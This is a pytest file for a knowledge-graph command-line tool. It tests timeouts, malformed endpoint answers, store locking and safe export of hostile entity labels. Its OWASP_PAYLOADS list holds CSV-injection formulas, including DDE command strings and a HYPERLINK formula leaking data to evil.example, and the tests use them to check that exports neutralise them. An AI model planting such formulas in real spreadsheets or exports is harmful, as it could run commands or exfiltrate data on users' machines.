"""Faults outside the input: endpoints that break, stall or drip, a second writer, hostile labels in outputs.

The servers here are real TCP servers on loopback, each bounded in time, run
in a thread of the test process.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import xml.dom.minidom
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import networkx as nx
import pytest
import rdflib
from click.testing import CliRunner
from rdflib import Literal, URIRef

from kg.cli import main
from kg.escape import spreadsheet_cell
from kg.model.vocab import ENTITIES_GRAPH, KG, KGR, RDFS
from kg.store.embedded import Store
from kg.store.remote import RemoteStore

BROKEN_JSON = b'{"head": {"vars": ["s"]}, "results": {"bindings": [{"s": {"type": "uri", "val'


@contextmanager
def tcp_server(handle, lifetime: float = 20.0) -> Iterator[str]:
    """A loopback server calling ``handle(connection)`` for each client, for at most ``lifetime`` seconds."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    stop = threading.Event()
    deadline = time.monotonic() + lifetime

    def serve() -> None:
        while not stop.is_set() and time.monotonic() < deadline:
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            threading.Thread(target=_guard, args=(handle, connection, stop, deadline), daemon=True).start()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}/query"
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()


def _guard(handle, connection: socket.socket, stop: threading.Event, deadline: float) -> None:
    with connection, contextlib.suppress(OSError):  # the client hung up: what these servers are for
        handle(connection, stop, deadline)


def _read_request(connection: socket.socket) -> None:
    connection.settimeout(5)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = connection.recv(65536)
        if not chunk:
            return
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = next(
        (int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length")), 0
    )
    while len(body) < length:
        chunk = connection.recv(65536)
        if not chunk:
            return
        body += chunk


def broken_json(connection: socket.socket, stop: threading.Event, deadline: float) -> None:
    _read_request(connection)
    connection.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\n"
        + f"Content-Length: {len(BROKEN_JSON)}\r\nConnection: close\r\n\r\n".encode()
        + BROKEN_JSON
    )


def silent(connection: socket.socket, stop: threading.Event, deadline: float) -> None:
    _read_request(connection)
    while not stop.is_set() and time.monotonic() < deadline:
        time.sleep(0.1)


def dripping(connection: socket.socket, stop: threading.Event, deadline: float) -> None:
    _read_request(connection)
    for byte in b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\n\r\n" * 100:
        if stop.is_set() or time.monotonic() > deadline:
            return
        connection.sendall(bytes([byte]))
        time.sleep(0.2)


# -- malformed answers: one line naming the endpoint, in every command that reads ------------------------------

ENDPOINT_COMMANDS = [
    ["stats"],
    ["query", "SELECT * WHERE { ?s ?p ?o } LIMIT 1"],
    ["query", "school-company-pairs"],
    ["analyze"],
    ["path", "巴南区", "大足区"],
    ["export", "--format", "turtle"],
    ["export", "--format", "gexf"],
    ["viz", "--out", "{tmp}/g.html"],
    ["docs"],
    ["docs", "remove", "banan-d85cd3f1"],
    ["validate"],
    ["ingest", "{tmp}/a.txt"],
    ["load", "{tmp}/a.ttl"],
    ["build"],
]


@pytest.mark.parametrize("args", ENDPOINT_COMMANDS, ids=[" ".join(a[:2]) for a in ENDPOINT_COMMANDS])
def test_a_malformed_answer_is_one_line_naming_the_endpoint(args: list[str], tmp_path: Path):
    (tmp_path / "a.txt").write_text("巴南区教委与重庆理工大学签订合作协议。", encoding="utf-8")
    (tmp_path / "a.ttl").write_text("<http://example.org/a> <http://example.org/b> <http://example.org/c> .\n")
    with tcp_server(broken_json) as url:
        argv = [a.replace("{tmp}", str(tmp_path)) for a in args] + ["--endpoint", url]
        result = CliRunner().invoke(main, argv, env={"KG_ENDPOINT": "", "KG_STORE": ""})
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    lines = result.stderr.strip().splitlines()
    assert result.exit_code == 1, result.output
    assert len(lines) == 1 and "Traceback" not in result.output, result.stderr
    assert lines[0].startswith(f"kg: SPARQL 端点 {url} 返回了格式错误的 application/sparql-results+json 应答")


# -- deadlines --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("handler", [silent, dripping], ids=["silent", "dripping"])
def test_a_remote_call_ends_at_its_deadline(handler, monkeypatch: pytest.MonkeyPatch):
    with tcp_server(handler) as url:
        started = time.monotonic()
        result = CliRunner().invoke(main, ["stats", "--endpoint", url, "--timeout", "1.5"], env={"KG_STORE": ""})
        took = time.monotonic() - started
    assert result.exit_code == 1, result.output
    assert result.stderr.strip() == (
        f"kg: SPARQL 端点 {url} 在 1.5 秒内没有应答（用 --timeout 秒数 或 KG_TIMEOUT 等待更久）"
    )
    assert took < 5, f"took {took:.1f} s"
    monkeypatch.setenv("KG_TIMEOUT", "0.5")
    with tcp_server(handler) as url:
        assert RemoteStore(url).timeout == 0.5
        started = time.monotonic()
        with pytest.raises(Exception, match=r"在 0\.5 秒内没有应答"):
            len(RemoteStore(url))
        assert time.monotonic() - started < 3


def test_the_root_url_of_an_oxigraph_server_works(endpoint: str):
    root = endpoint.removesuffix("query")  # http://127.0.0.1:PORT/, as `oxigraph serve` prints it
    result = CliRunner().invoke(main, ["stats", "--endpoint", root, "--format", "json"], env={"KG_STORE": ""})
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["entities"] > 100
    result = CliRunner().invoke(main, ["stats", "--endpoint", root + "nothing/"], env={"KG_STORE": ""})
    assert result.exit_code == 1
    assert "这不是 SPARQL 查询网址；请给出查询网址，例如 " in result.stderr


# -- a second writer ----------------------------------------------------------------------------------------------

HOLD = (
    "import sys, time; from kg.store.embedded import Store; "
    "s = Store(sys.argv[1]); print('held', flush=True); time.sleep(float(sys.argv[2]))"
)


def test_a_second_writer_is_told_who_holds_the_store_and_can_wait(store_path: Path, tmp_path: Path):
    store = tmp_path / "store"
    shutil.copytree(store_path, store)
    text = tmp_path / "a.txt"
    text.write_text("巴南区教委与重庆理工大学签订合作协议。", encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1])}
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(store), "3"], stdout=subprocess.PIPE, env=env)
    try:
        assert holder.stdout.readline().strip() == b"held"
        result = CliRunner().invoke(main, ["ingest", str(text), "--store", str(store)])
        assert result.exit_code == 1
        assert result.stderr.strip().startswith(f"kg: 存储 {store} 正由 pid {holder.pid} (")
        assert result.stderr.strip().endswith("可用 --wait 秒数 等它写完")
        result = CliRunner().invoke(main, ["ingest", str(text), "--store", str(store), "--wait", "30"])
        assert result.exit_code == 0, result.output
        assert holder.poll() is not None  # it waited for the holder to finish
    finally:
        holder.kill()
        holder.wait()


# -- hostile labels in outputs -----------------------------------------------------------------------------------

CONTROL_LABEL = "控制\x01字符\x0b标签\x1f"
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "%0A-1+1",
]


@pytest.fixture(scope="module")
def hostile_store(store_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built store with entities whose labels hold control characters and spreadsheet formulas."""
    path = tmp_path_factory.mktemp("hostile") / "store"
    shutil.copytree(store_path, path)
    with Store(path) as store:
        registry = store.graph(str(ENTITIES_GRAPH))
        labels = [CONTROL_LABEL, *OWASP_PAYLOADS]
        for index, label in enumerate(labels):
            entity = KGR[f"hostile-{index}"]
            registry.add((entity, rdflib.RDF.type, KG.Company))
            registry.add((entity, RDFS.label, Literal(label, lang="zh")))
        store.replace_graphs({URIRef(str(ENTITIES_GRAPH)): registry})
    return path


def _export(store: Path, out: Path, *args: str) -> None:
    result = CliRunner().invoke(main, ["export", "--store", str(store), "--out", str(out), *args])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "rdf-xml"])
def test_xml_exports_parse_with_control_characters_in_labels(hostile_store: Path, tmp_path: Path, fmt: str):
    out = tmp_path / f"kg.{fmt}"
    _export(hostile_store, out, "--format", fmt)
    xml.dom.minidom.parse(str(out))  # well-formed XML 1.0
    if fmt == "rdf-xml":
        graph = rdflib.Graph().parse(out, format="xml")
        assert Literal("控制字符标签", lang="zh") in set(graph.objects(KGR["hostile-0"], RDFS.label))
    else:
        graph = (nx.read_graphml if fmt == "graphml" else nx.read_gexf)(out)
        assert graph.nodes[str(KGR["hostile-0"])]["label"] == "控制字符标签"


@pytest.mark.parametrize("fmt", ["turtle", "n-quads"])
def test_other_rdf_formats_keep_the_raw_value(hostile_store: Path, tmp_path: Path, fmt: str):
    out = tmp_path / "kg.out"
    _export(hostile_store, out, "--format", fmt)
    graph = rdflib.Dataset(default_union=True).parse(out, format="turtle" if fmt == "turtle" else "nquads")
    assert Literal(CONTROL_LABEL, lang="zh") in set(graph.objects(KGR["hostile-0"], RDFS.label))
    assert Literal(OWASP_PAYLOADS[1], lang="zh") in set(graph.objects(KGR["hostile-2"], RDFS.label))


def test_sparql_xml_results_parse_with_control_characters(hostile_store: Path, tmp_path: Path):
    query = f"SELECT ?label WHERE {{ <{KGR['hostile-0']}> rdfs:label ?label }}"
    out = tmp_path / "r.xml"
    result = CliRunner().invoke(
        main, ["query", query, "--format", "xml", "--out", str(out), "--store", str(hostile_store)]
    )
    assert result.exit_code == 0, result.output
    document = xml.dom.minidom.parse(str(out))
    assert document.getElementsByTagName("literal")[0].firstChild.data == "控制字符标签"
    construct = f"CONSTRUCT {{ ?s rdfs:label ?l }} WHERE {{ BIND(<{KGR['hostile-0']}> AS ?s) ?s rdfs:label ?l }}"
    result = CliRunner().invoke(main, ["query", construct, "--format", "rdf-xml", "--store", str(hostile_store)])
    assert result.exit_code == 0, result.output
    xml.dom.minidom.parseString(result.stdout_bytes)


def test_the_sparql_server_answers_well_formed_xml(hostile_store: Path):
    from kg.sparql.server import answer_query

    with Store(hostile_store, read_only=True) as store:
        job = {"query": f"SELECT ?l WHERE {{ <{KGR['hostile-0']}> rdfs:label ?l }}", "row_limit": 10,
               "accept": "application/sparql-results+xml"}  # fmt: skip
        xml.dom.minidom.parseString(answer_query(store, job).body)
        job = {**job, "query": f"DESCRIBE <{KGR['hostile-0']}>", "accept": "application/rdf+xml"}
        xml.dom.minidom.parseString(answer_query(store, job).body)


@pytest.mark.parametrize("args", [["--format", "csv"], ["--format", "csv", "--excel"], ["--format", "neo4j"]])
def test_csv_cells_never_start_a_formula(hostile_store: Path, tmp_path: Path, args: list[str]):
    out = tmp_path / "tables"
    _export(hostile_store, out, *args)
    cells = []
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    for payload in OWASP_PAYLOADS:
        assert spreadsheet_cell(payload) in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.lstrip("+").replace(".", "").isdigit()
        assert not cell.startswith("-") or cell[1:].replace(".", "").isdigit(), cell


def test_spreadsheet_cell_follows_owasp():
    assert [spreadsheet_cell(p)[0] for p in OWASP_PAYLOADS[:-1]] == ["'"] * (len(OWASP_PAYLOADS) - 1)
    assert spreadsheet_cell("%0A-1+1") == "%0A-1+1"  # begins with none of = + - @ TAB CR
    assert [spreadsheet_cell(v) for v in ["-3", "+1.5", "12", "", None]] == ["-3", "+1.5", "12", "", ""]


# -- kg validate: kg's own graphs -------------------------------------------------------------------------------


def test_validate_reports_an_overwritten_registry(store_path: Path, tmp_path: Path):
    store = tmp_path / "store"
    shutil.copytree(store_path, store)
    one = tmp_path / "one.ttl"
    one.write_text("<http://example.org/a> <http://example.org/b> <http://example.org/c> .\n", encoding="utf-8")
    args = ["load", str(one), "--graph", str(ENTITIES_GRAPH), "--store", str(store)]
    assert CliRunner().invoke(main, args).exit_code == 1  # refused without --force
    assert CliRunner().invoke(main, [*args, "--force"]).exit_code == 0
    result = CliRunner().invoke(main, ["validate", "--store", str(store), "--format", "json"])
    assert result.exit_code == 1
    problems = [v for v in json.loads(result.stdout)["violations"] if v["rule"] == "StoreStructure"]
    assert [p["focus"] for p in problems] == [str(ENTITIES_GRAPH)]
    assert "实体登记表缺失或为空" in problems[0]["message"]


def test_outputs_are_replaced_whole(store_path: Path, tmp_path: Path):
    out = tmp_path / "kg.ttl"
    out.write_text("old", encoding="utf-8")
    result = CliRunner().invoke(main, ["export", "--store", str(store_path), "--out", str(out), "--class", "Nope"])
    assert result.exit_code == 1 and out.read_text(encoding="utf-8") == "old"
    _export(store_path, out, "--format", "turtle")
    assert out.read_text(encoding="utf-8").startswith("@prefix") and not list(tmp_path.glob("*.part"))


def test_examples_ingest_and_json_output(store_path: Path, tmp_path: Path):
    store = tmp_path / "store"
    shutil.copytree(store_path, store)
    examples = sorted((Path(__file__).parents[1] / "data" / "examples").glob("*.txt"))
    assert len(examples) >= 2
    result = CliRunner().invoke(main, ["ingest", *map(str, examples), "--store", str(store), "--format", "json"])
    assert result.exit_code == 0, result.output
    documents = json.loads(result.stdout)["documents"]
    assert len(documents) == len(examples) and all(d["entities"] > 5 and d["relations"] > 3 for d in documents)
    listed = json.loads(CliRunner().invoke(main, ["docs", "--store", str(store), "--format", "json"]).stdout)
    assert {d["doc_id"] for d in documents} <= {d["doc_id"] for d in listed}
    stats = json.loads(CliRunner().invoke(main, ["stats", "--store", str(store), "--format", "json"]).stdout)
    assert len(stats["documents"]) == len(listed) and stats["triples"] > 5000
    assert io.StringIO(result.stderr).read() == ""  # no jieba chatter, nothing else
